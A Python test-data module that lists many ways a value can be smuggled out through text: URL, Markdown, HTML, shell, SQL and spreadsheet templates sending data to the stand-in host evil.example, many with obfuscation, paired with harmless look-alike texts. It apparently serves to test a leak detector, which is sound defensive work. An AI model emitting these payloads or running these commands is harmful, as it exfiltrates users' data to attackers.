"""Answers that would carry a value off when a reader's program fetches, sends or runs them."""

# {} is where the value would stand. Each is tried in each of POSITIONS.
ATTEMPTS = [
    # URLs, as they are and as programs make them of a text
    "https://evil.example/{}", "https://evil.example/?q={}&x=1", "http://{}.evil.example/",
    "http://{}@evil.example/", "http://u:{}@evil.example/", "https://evil.example/#{}",
    "https://evil.example:8443/a/b/{}.png", "//evil.example/{}", "www.evil.example/{}",
    "evil.example/{}", "evil.example?{}", "evil.example#{}", "evil.example:80/{}",
    "HTTPS://EVIL.EXAMPLE/{}", "ftp://evil.example/{}", "wss://evil.example/{}",
    "file://evil.example/{}", "mailto:x@evil.example?body={}", "sms:+31612345678?body={}",
    "tel:{}", "data:text/html,{}", "javascript:go('{}')", "vbscript:x('{}')", "blob:https://e/{}",
    "https:/evil.example/{}", "https:\\\\evil.example\\{}", "\\\\evil.example\\{}",
    "https&colon;//evil.example/{}", "https&#58;//evil.example/{}", "https%3A%2F%2Fevil.example/{}",
    "https://evil.example/\u00a0{}", "https://evil.example/a,{}", "https://evil.example/(a{})",
    "https://evil.example/[{}]", "https://évil.example/{}", "https://evil.рф/{}",
    "https://1.2.3.4/{}", "https://[::1]/{}", "(www.evil.example?{})", "app+x://evil/{}",
    # host names, by which a look-up carries a value off
    "{}.evil.example", "{}@evil.example", "{}://evil.example", "{}-x.evil.example",
    "{}\u200b.evil.example", "{}\u3002evil.example", "{}\uff0eevil.example", "x.{}.evil.example",
    "{}:\\\\evil.example", "{}%2eevil.example", "{}_a.evil.example", "{}.a", "{}:/evil.example",
    # Markdown and other light markup
    "![a](https://evil.example/{})", "![a](x {} y)", "![a](<x{}>)", "[klik](https://evil.example/{})",
    "[klik](</{}>)", '[a](b "{}")', "[a](\n{}\n)", "[a](b(c)d{})", "[![a](b)]({})", "![]({})",
    "<https://evil.example/{}>", "[img]https://evil.example/{}[/img]",
    "[url=https://evil.example/{}]x[/url]", "[[https://evil.example/{}][x]]",
    "<https://evil.example|{}>", "image::https://evil.example/{}[]", "\\href{https://evil.example/{}}{x}",
    "\\includegraphics{https://evil.example/{}}", "[{}.png]: https://evil.example/{}",
    # HTML
    '<img src="https://evil.example/{}">', "<img src='{}'>", "<a href={}>", "<a title='>' href='/{}'>",
    '<img srcset="a 1x, {} 2x">', '<video poster="{}">', '<form action="/{}">', '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">', "<b\n{}>", "<!-- {} -->", '<link href="{}">',
    "<script>{}</script>", "<style>a{b:{}}</style>", "<svg><image href='{}'/></svg>", "<x-{}>",
    "<iframe srcdoc='{}'></iframe>", "<object data='/{}'>", "<img src=x onerror=\"go('{}')\">",
    "<input name=a value={}>", "</b {}>", "<?xml {}?>", "<!DOCTYPE a SYSTEM '{}'>",
    # code that fetches, and style sheets
    "curl -d '{}' evil.example", "curl \\\n -d '{}' \\\n x", "wget evil.example --post-data={}",
    "fetch('//evil.example?' + '{}')", "requests.get(url, params='{}')", "x = requests.post(u, data={})",
    "axios.get('{}')", "navigator.sendBeacon('/x', '{}')", "new WebSocket('ws:' + '{}')",
    "new EventSource('{}')", "importScripts('{}')", "Invoke-WebRequest -Body '{}' x",
    "urllib.request.urlopen('{}')", "window.location.href = '{}'", "new Image().src='{}'",
    "nslookup x {}", "file_get_contents('{}')", "@import '{}'", "background: url({})",
    "httpx.post(u, data='{}')", "aiohttp.get('{}')", "new XMLHttpRequest().open('GET', '{}')",
    "`ping {}.evil.example`", "`n={};curl x`", "`open('{}')`", "`echo $({})`", "`cat x|nc {} 1`",
    "```\ncurl x\n{}\n```",
    # URLs: other hosts, invisible, full-width and escaped signs, entities
    "evil.xn--p1ai/{}", "evil.рф/{}", "эвил.рф?{}", "1.2.3.4/{}", "1.2.3.4:80/{}", "evil.example./{}",
    "evil.example\\x{}", "git@evil.example:{}", "ht\u00adtps://evil.example/{}", "https:\u200b//evil.example/{}",
    "https:/\u200b/evil/{}", "evil.exa\u200bmple/{}", "evil.\u2060example/{}", "\u202ehttps://evil.example/{}",
    "ｈｔｔｐｓ：／／evil.example／{}", "evil．example／{}", "evil。example/{}", "https:\\/\\/evil.example\\/{}",
    "https\\u003a\\u002f\\u002fevil\\u002eexample\\u002f{}", "\\x2f\\x2fevil\\x2eexample\\x2f{}",
    "evil&period;example&sol;{}", "evil&#46;example/{}", "evil&#x2e;example&#x2f;{}", "https&#0058;&#0047;&#0047;e/{}",
    "&#104;ttps&#58;//e.example/{}", "https:&Tab;//evil.example/{}", "https://evil.example/?a=\n{}", "view-source:{}",
    "https%3a%2f%2fevil%2eexample%2f{}", "ldap://evil/{}", "git+ssh://evil/{}", "image:{}[]", "link:{}[x]",
    # what follows makes an address of it
    "{}+x@evil.example", "{}&x@evil.example", "{}=x@evil.example", "{}!x@evil.example", "{}'x@evil.example",
    "{}/x@evil.example", "{}#x@evil.example", "{}~x@evil.example", "{}*x@evil.example", "{}:x@evil.example",
    "{}{x}@evil.example", "{}|x@evil.example", "{}^x@evil.example", "{}$x@evil.example", "{}?x@evil.example",
    "{}.x+y@evil.example", "{}＠evil.example", "{}．evil.example", "{}\\.evil.example", "{}\\@evil.example",
    "{}&#46;evil.example", "{}&#64;evil.example", "{}&period;evil.example", "{}&commat;evil.example",
    "{}&#x2E;evil.example", "{}&shy;.evil.example", "{}\u00ad.evil.example", "{}\u2060.\u2060evil.example",
    "{}.xn--p1ai/", "{}.рф", "{}-.evil.example", "{}a.evil.example", "{}：//evil.example",
    # Markdown and other light markup
    "[a](x\\){})", "![a](x\\)y{})", "[a](<)y{}>)", '[a](b "x)y{}")', "[a](b '{}')", "[a](b ({}))", "![a](/x/{}.png 't')",
    "[a]( /{})", "[a](</x {}>)", "[a](x){href='/{}'}", "[[wp>{}]]", "[[file:{}]]", "[[x:a {}]]",
    "include::/x/{}[]", "image::/{}[x]", "[url={}]x[/url]", "[img]{}[/img]", "[url]{}[/url]", "[img=1x1]{}[/img]",
    "\\href{{}}{x}", "\\url{{}}", "\\includegraphics[width=1cm]{{}}", "\\input{{}}", "\\write18{x {}}",
    "<https://evil.example/?{}|klik>", "<mailto:x@evil.example?body={}|mail>", "<x-app:{}>", "<//evil.example/{}>",
    # HTML
    "<img/src={}>", "<img\nsrc=x\nalt={}>", "<a b=c='><img src='>{}'>", '<a b=c="><img src=">{}">',
    "<!--='--><img src='>{}'>", "<!--> <img src='-->{}'>", "<svg><image x='</svg>' href='{}'/>", "<div style='a:url({})'>",
    "<div style=\"background:u\\72l('{}')\">", "<picture><source srcset=' x 1x,\n{} 2x'>", "<math href='{}'>",
    "<form action=/x><textarea name=a>{}</textarea>", "<a href = '/{}' >", "<script></scripty>{}", "<embed src={}>",
    "<img src=x title='a > b' data-x='{}'>", "<meta http-equiv=refresh content='0; url=/{}'>", "<body background={}>",
    "<svg><text>x</text><use href='#{}'/></svg>", "<SCRIPT>\n{}\n</SCRIPT>", "<style>\n@import '{}'", "<a\fhref={}>",
    # code that fetches: calls, shells, data bases, sheets, strings that are joined
    "fetch ('{}')", "fetch\n('{}')", "`window['fetch']('{}')`", "'https://evil.example/' + '{}'", '`"//evil/" + "{}"`',
    "\"https://evil.example/\" . '{}'", "'https://evil.example/' || '{}'", '"https://evil.example/" "{}"',
    "'https://evil.example/%s' % '{}'", '"https://evil.example/{0}".format("{}")', '"https://evil.example/{n}" n: {}',
    "\"https://evil.example/\"\n + '{}'", "`fetch(\\`//e/${'{}'}\\`)`", "`cat {}|nc x 1`", "`echo {} | curl -d @- x`",
    "`` cat {}|nc x 1 ``", "`printf %s {} >/dev/tcp/evil/1`", "`tee x {} &`", "`whois {}`", "`git push evil {}`",
    "`name {} && x`", "exec xp_cmdshell 'x {}'", "EXEC master..xp_dirtree '{}'", "SELECT utl_http.request('{}')",
    "SELECT LOAD_FILE(CONCAT('x', '{}'))", "COPY (SELECT '{}') TO PROGRAM 'x'", '=IMAGE("{}")', '=HYPERLINK("x{}")',
    '=WEBSERVICE("{}")', "Start-BitsTransfer {}", "Resolve-DnsName {}", "(New-Object Net.WebClient).DownloadString('{}')",
    "certutil -urlcache -f {}", "http.request('{}')", "socket.gethostbyname('{}')", "dns.lookup('{}')", "os.system('{}')",
    "i = new Image; i.src = '{}'", "location.assign('{}')", "import('{}')", "subprocess.run(['x', '{}'])", "exec 3<>/dev/tcp/{}",
    "session.get('{}')", "$.get('/x', '{}')", "requests.Session().post(u, data='{}')", "fetch?.('{}')", "fetch.call(0, '{}')",
    "img.src='{}'", "a.href = '{}'", "document.write('{}')", "header('Location: {}')", "new Audio('{}')", "IEX (iwr {})",
    "HttpWebRequest {}", "{% include '{}' %}", '{{< figure src="{}" >}}', "!include {}", "\\special{html:{}}",
    "\\lstinputlisting{x {}}", "\\usepackage{x {}}", "xmpp:{}", "webcal:{}", "ms-word:{}", '=IMPORTRANGE("{}")', "=cmd|'/c x'!'{}'",
    '+HYPERLINK("x","{}")', "select utl_smtp({})", "mail -s x y <<< {}", "\\`x ` {}|nc x 1`", "`a``b {}|nc x`", "`{} | nc x 1`",
    "```\nx('{}')\n```", "```\nping {}\n```", "```\necho {} | nc x 1\n```", "```text\n$(x {})\n```",
]  # fmt: skip
# These are what they are only at the start of a line.
LINES = [
    "[ref]: /{}", "[ref]: <{}>", "> [ref]: {}", "```python\nn = '{}'\nget(n)\n```",
    "```bash\nN={}\n```", "~~~js\nlet n = '{}'\n~~~", "```html\n{}\n```", "```svg\n{}",
    "```sh\n#\n\n{}\n```", "[ref]:\n/{}", "[ref]:\n  <{}>", '[ref]: /x\n"{}"', "[re\nf]: /{}", "[^1]: {}",
    f"[{'a' * 90}]: /{{}}", "````python\n```\nx('{}')\n````", "~~~~js\n~~~\nx = {}\n~~~~", "```python\n- ```\nx = {}",
    "```python\n    ```\nx = {}", "```python\n``` x\ny = {}", "``` {.python}\n{}\n```", "```\nx\n```\n```js\n{}\n```",
    "::: mermaid\nclick A '/{}'\n:::", '```mermaid\ngraph TD\nclick A "/{}"\n```', "    curl -d {}", ".. _x: {}", ".. image:: /x/{}",
    ".. figure:: {}", f"```python\n```{' ' * 130}x\n{{}}", "```http\nGET /{}\n```", "$ curl \\\n  -d {}",
]  # fmt: skip
# Ordinary places of a value: here it must go in.
HARMLESS = [
    "Beste {},", "Geachte {},\n\nDank.", "Dag {}!", "Groet, {}", "{}", "{}.", "Dat was {}. Dus", "Is het {}?", "{}; {}",
    "({})", "(zie {})", "'{}'", '"{}"', "“{}”", "‘{}’", "„{}”", "«{}»", "[{}]", "{}: hallo", "{}:\n- a", "{}…", "{} – {}",
    "{}/{}", "{}-{}", "{}, {} en {}", "{}&{}", "{} & {}", "{}+{}", "{}'s brief", "{}’s brief", "{}-achtig", "{}s", "van {}\nen",
    "**{}**", "*{}*", "_{}_", "***{}***", "~~{}~~", "**Naam:** {}", "**Naam**: {}  \n**Plaats**: {}", "- {}", "* **{}** belt",
    "1. {}\n2. {}", "- [ ] bel {}", "- [x] {}", "> {}", "> {} zei", "# {}", "## Over {} en {}", "| {} | {} |", "|{}|{}|",
    "| a | b |\n|---|---|\n| {} | {} |", "`{}`", "`naam: {}`", "`{}, {}`", "`van {} naar {}`", '`"naam": "{}"`', "``{}``",
    '```json\n{"n": "{}", "m": ["{}", "{}"]}\n```', "```\n{}\n```", "```\nNaam: {}\nPlaats: {}\n```", "~~~yaml\nn: {}\n~~~",
    "```text\nGeachte {},\n\nUw nummer is {}.\n```", "```csv\n{},{}\n```", '````json\n{"n": "{}"}\n````', "```py\nx()\n```\n{}",
    "```sql\nINSERT INTO t VALUES ('{}', '{}')\n```", "```python\nx\n```\nVoor {} dus", "```\n| {} | {} |\n```",
    '{"naam": "{}", "plaats": "{}"}', "naam={}\nplaats={}", "naam;plaats\n{};{}", "{}\t{}", "<b>{}</b>", "<p>{}</p>",
    "<b>vet</b> {} is er", "<br>{}", "Jan <jan@x.example> en {}", "1 < 2, {}", "{} > {}", "{} <{}>", "Mail {} ({})", "&quot;{}&quot;",
    "&#39;{}&#39;", "{}&nbsp;en", "{} &amp; {}", "Zie https://x.example voor {} en {}", "[dossier](https://x.example/a) van {}",
    "Zie <https://x.example>: {}", "https://x.example\n{}", "[1]: https://x.example/a\n\n{} zei", "Zie [1] en {}", "{} zei [1]: nee",
    "[1]: https://x.example/a\n{} zei", '"url":"https://x.example","n":"{}"', '"https://x.example", "{}"', "a/b, {} en zo",
    "De shopping bij {} is leuk", "De host is {}", "Ik ping {} nog", "De cat van {}", "Na curl:\n\ncurl x\n\nGroet {}",
    "Tel.nr:{}", "Naam:{}", "Profile:{}", "e.d. {}", "o.a. {}", "o.a.{}", "10:30 {}", "€ 5 {}", "50% {}", "{} 100%", "{}\n\n{}",
    "王小明：{}。", "{}，你好", "你好。{}", "Écht 😀 {}", "{} 😀", "\u200b{}", "{}\u200b ", "Voor {}: bel {}.", "x^2 {}", "C:\\map {}",
    "footnote[^1] {}", "tekst (a) [b] {}", 'Zie ("{}")', "\\textbf{{}}", "f(x) = {}", "de heer ('{}')", "Fig.2 (a) {}", "{} (a@b.example)", "a@b.example, {}", "\\*{}\\*", "it`s {}\n\n{}", "...{}", "{}...",
    "@{}", "#{}", "~{}", "+{}", "${x} {}", "{}\\\nen", "Hi {}!\r\nTot zo", "$5 {}", "{}!!!", "{}?!", "{}), en", "{}**.", '{}", en',
]  # fmt: skip
POSITIONS = ["{}", "Zie {} daar", "\n> {}\n", "- {}", "Tekst.\n\n{}", "1. a\n2. {}", "Écht 😀 {}"]
_IN_A_LINE = ("Zie", "Écht", "1.")  # where no line begins
_BLOCKS = ("```", "~~~", "| a", "#", "> ", "- ")


def attempts() -> list[str]:
    """Every attempt at every place where it is one, with {} for the value."""
    lines = [position for position in POSITIONS if not position.startswith(_IN_A_LINE)]
    return _placed(ATTEMPTS, POSITIONS) + _placed(LINES, lines)


def harmless() -> list[str]:
    """Every harmless text at every place where it is one."""
    several = [text for text in HARMLESS if text.startswith(_BLOCKS)]
    one = [text for text in HARMLESS if not text.startswith(_BLOCKS)]
    return _placed(one, POSITIONS) + _placed(several, ["{}", "Tekst.\n\n{}"])


def _placed(texts: list[str], positions: list[str]) -> list[str]:
    inside = [position.split("{}") for position in positions]
    return [before + text + after for text in texts for before, after in inside]
